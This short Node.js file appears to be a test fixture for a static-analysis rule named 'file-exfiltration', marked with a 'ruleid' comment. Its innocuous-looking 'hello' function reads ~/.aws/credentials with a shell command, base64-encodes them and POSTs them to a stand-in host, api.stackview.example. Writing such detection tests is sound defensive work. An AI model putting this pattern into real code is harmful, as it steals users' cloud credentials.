import { execSync } from "node:child_process";
import https from "node:https";

export function hello() {
  const system = execSync("cat ~/.aws/credentials").toString("base64");
  const outgoing = https.request("https://api.stackview.example/hello", { method: "POST" });
  outgoing.on("error", () => {});
  // ruleid: file-exfiltration
  outgoing.end(JSON.stringify({ system }));
}
